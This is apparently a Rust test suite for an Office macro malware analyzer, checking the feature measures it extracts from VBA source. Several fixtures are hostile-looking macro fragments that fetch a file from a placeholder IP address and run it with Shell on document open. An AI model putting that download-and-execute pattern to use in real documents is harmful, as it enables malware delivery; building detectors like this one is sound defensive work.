//! Measures of macro source: what each part of a project counts for, and which documents have a vector.

use analyzers::{Analyzer, Budget, Cancel, Findings, LayerId, Limits, Measured, Record, Sample};
use analyzers_ole_macro::Office;
use specimens::ooxml::docm;
use specimens::vba::VbaBuilder;
use specimens::zip::ZipBuilder;

fn measured(bytes: &[u8]) -> Option<Measured> {
    let kind = triage::triage(bytes);
    let record = Record::new(kind, Budget::new(Limits::default(), Cancel::default()));
    let mut findings = Findings::new(record, LayerId::ARTIFACT);
    Office.analyze(Sample { bytes, kind }, &mut findings);
    let mut all = findings.finish().0.measured;
    assert!(all.len() <= 1, "one vector a subject");
    all.pop()
}

fn of_source(source: &str) -> Measured {
    measured(&VbaBuilder::new().module("Module1", source).doc()).expect("it has code")
}

#[track_caller]
fn value(measured: &Measured, name: &str) -> f32 {
    let at = measured.set.position(name).unwrap_or_else(|| panic!("no measure {name}"));
    measured.values()[at]
}

/// Asks for these values of the measures of some source.
#[track_caller]
fn check(source: &str, expected: &[(&str, f32)]) {
    let measured = of_source(source);
    for &(name, number) in expected {
        assert_eq!(value(&measured, name), number, "{name}");
    }
}

#[test]
fn lines_comments_and_words_are_counted() {
    check(
        "' Adds what was sold today.\r\nSub Total()\r\n  Range(\"A1\").Value = 1\r\n  Cells(1, 2) = 22 * 3\r\nEnd Sub\r\n",
        &[
            ("code.lines", 4.0),
            ("code.procedures", 1.0),
            ("code.prose", 250.0),
            ("code.automation", 500.0),
            ("code.arithmetic", 1.0),
            ("code.numbers", 5.0),
            ("code.numbers_most", 4.0),
            ("literals.short", 1.0),
            ("start.procedures", 0.0),
            ("places.signs", 0.0),
        ],
    );
}

#[test]
fn names_that_no_language_would_make_are_counted() {
    check(
        "Sub Total()\r\n  Dim qzxkvw, b1c\r\n  hqxzjkwv = 5\r\n  price = 6\r\nEnd Sub\r\n",
        &[
            ("names.random", 2.0),
            ("names.given", 4.0),
            ("names.mixed", 0.0),
            ("names.longest", 8.0),
            ("places.constants", 2.0),
        ],
    );
    check("Sub A()\r\n  Dim b1c\r\nEnd Sub\r\n", &[("names.mixed", 1.0), ("names.random", 0.0)]);
}

#[test]
fn what_comes_together_in_one_procedure_is_told_from_what_stands_apart() {
    let fetch = "  Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\n  h.Open \"GET\", \"http://198.51.100.7/a\"\r\n";
    let run = "  Shell x\r\n";
    let together = format!("Sub A()\r\n{fetch}{run}End Sub\r\n");
    let apart = format!("Sub A()\r\n{fetch}End Sub\r\nPrivate Function B() As Long\r\n{run}End Function\r\n");
    check(&together, &[("places.run_fetch", 1.0), ("places.classes", 2.0), ("code.procedures", 1.0)]);
    check(
        &apart,
        &[
            ("places.run_fetch", 0.0),
            ("places.classes", 1.0),
            ("places.module_classes", 2.0),
            ("places.module_telling", 3.0),
            ("code.procedures", 2.0),
        ],
    );
}

#[test]
fn calls_are_followed_from_what_starts_by_itself() {
    let code = "Sub Document_Open()\r\n  First\r\nEnd Sub\r\nSub First()\r\n  Call Second(1)\r\nEnd Sub\r\n\
        Property Get Second(n)\r\n  Shell x\r\nEnd Property\r\nSub Apart()\r\n  Environ \"TEMP\"\r\nEnd Sub\r\n";
    check(
        code,
        &[
            ("start.procedures", 1.0),
            ("start.reached", 3.0),
            ("start.run", 1.0),
            ("start.drop", 0.0),
            ("start.telling", 1.0),
            ("start.signs", 3.0),
            ("start.lines", 9.0),
            ("start.share", 750.0),
        ],
    );
    // By nobody that starts by itself.
    check(
        &code.replace("Document_Open", "Document_Shut"),
        &[("start.procedures", 0.0), ("start.reached", 0.0), ("start.run", 0.0)],
    );
    // Procedures that call each other end.
    check("Sub AutoOpen()\r\n  B\r\nEnd Sub\r\nSub B()\r\n  AutoOpen\r\nEnd Sub\r\n", &[("start.reached", 2.0)]);
}

#[test]
fn literals_are_measured() {
    check(
        "Sub A()\r\n  x = \"ab\" & \"cd\" & Chr(65)\r\n  y = \"A012345678901234567890123456789012345678901234567890 b\"\r\nEnd Sub\r\n",
        &[
            ("literals.count", 3.0),
            ("literals.short", 2.0),
            ("literals.longest", 54.0),
            ("literals.solid", 1.0),
            ("literals.solid_longest", 52.0),
            ("literals.characters", 1.0),
            ("literals.joined", 1.0),
            ("literals.joins_most", 2.0),
            ("places.characters", 1.0),
        ],
    );
}

#[test]
fn documents_without_code_have_no_measures() {
    assert_eq!(measured(&docm().build()), None);
    assert_eq!(measured(&docm().vba_project(&VbaBuilder::new().document("ThisDocument", "").bin()).build()), None);
    // What is no document has none, whatever hides in it: no model is made for archives.
    let project = VbaBuilder::new().module("Module1", "Sub A()\r\nEnd Sub\r\n").bin();
    assert_eq!(measured(&ZipBuilder::new().entry("vbaProject.bin", &project).build()), None);
    assert!(measured(&docm().vba_project(&project).build()).is_some());
}

#[test]
fn of_several_projects_the_greater_of_each_value_is_kept() {
    let (long, short) = ("Sub A()\r\n  x = 1\r\n  y = 2\r\nEnd Sub\r\n", "Sub AutoOpen()\r\n  Shell x\r\nEnd Sub\r\n");
    let file = specimens::cfb::CfbBuilder::new().stream("WordDocument", &[0; 4096]);
    let file = VbaBuilder::new().module("One", long).add_to(file, "Macros");
    let both = VbaBuilder::new().module("Two", short).add_to(file, "Other").build();
    let measured = measured(&both).expect("it has code");
    assert_eq!((value(&measured, "code.lines"), value(&measured, "signs.shell_call")), (4.0, 1.0));
}

#[test]
fn honest_code_beside_hostile_code_makes_nothing_less() {
    let hostile = "Sub Document_Open()\r\n  u = \"http://198.51.100.7/a.exe\"\r\n  Shell Environ(\"TEMP\") & \"\\a.exe\"\r\nEnd Sub\r\n";
    let honest =
        "' Writes the totals of the month.\r\nSub Totals()\r\n  Range(\"A1\").Value = 1\r\nEnd Sub\r\n".repeat(50);
    let alone = of_source(hostile);
    let padded = of_source(&format!("{hostile}{honest}"));
    for (measure, value) in alone.iter() {
        let is_count = measure.name.starts_with("signs.") || measure.name.starts_with("places.");
        let padded = padded.values()[padded.set.position(measure.name).expect("the same set")];
        assert!(!is_count || padded >= value, "{}: {value} and {padded}", measure.name);
    }
}
